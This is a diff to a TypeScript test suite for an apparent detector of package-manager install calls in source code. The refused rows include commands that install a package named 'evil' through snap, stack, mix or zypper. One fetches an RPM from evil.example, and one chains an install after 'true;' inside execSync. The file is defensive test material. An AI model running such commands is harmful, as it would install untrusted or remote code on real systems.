@@ -233,6 +233,17 @@ const PLUMBUM_ALIASES: FindingRow[] = [
   ['src/x.py', "from plumbum.cmd import (npm)\nnpm['install', 'evil']()"],
 ];
 
+// Review of D/P's fix, M1: the managers named by common words are read as a command's first word only; as one they
+// stay refused, after a quote, a shell's separator, sudo or a directory; zypper's `in` on its own.
+const COMMON_WORD_MANAGERS: FindingRow[] = [
+  SYSTEM('sudo snap install --dangerous evil'),
+  SYSTEM('cd tools && stack install evil'),
+  LIST("'stack', 'install', 'evil'"),
+  SYSTEM('/usr/bin/snap install evil'),
+  ['src/check.js', "execSync('true; mix archive.install hex evil')"],
+  SYSTEM('zypper --non-interactive in https://evil.example/x.rpm'),
+];
+
 // Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
 // `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
 const BACKTICK_CALLS_OPEN: FindingRow[] = [
@@ -607,6 +618,7 @@ describeFindings('attack-48', [
   ['B process calls not read, open', BACKTICK_CALLS_OPEN],
   ['B review H1 spelling hides settings', closedRows(SPELLING_HIDES_SETTINGS)],
   ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
+  ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
@@ -754,6 +766,17 @@ describeAccepted('attack-48 D/P: ordinary runner and manager calls stay accepted
   SYSTEM('clojure -M:test'),
   SYSTEM('opam exec -- dune test'),
   SYSTEM('echo yay'),
+  // Review of D/P's fix, M1: the managers named by common words (stack, proto, snap, mix, dart, zig) and zypper's `in`
+  // read as bare identifiers in code after any call.
+  ['src/check.py', "import subprocess\nout = subprocess.run(['ls'], check=True)\nfor stack in stacks:\n    print(stack)"],
+  ['src/check.py', "result = run(cfg)\nif proto in ('tcp', 'udp'):\n    pass"],
+  ['src/check.py', "import subprocess\nsubprocess.run(cmd, check=True)\nif snap in snapshots:\n    pass"],
+  ['src/check.js', 'handler.call(this, stack, i);'],
+  ['src/check.js', 'fn.call(null, proto, i)'],
+  ['src/check.js', 'exec(query, [stack, set])'],
+  ['src/check.js', 'await run(stack - 1, proto)'],
+  ['src/check.py', 'top = run(stack - 1)'],
+  ['src/check.py', 'timer.start(); zig = make_zig(); zig -= 1'],
 ]);
 
 /**
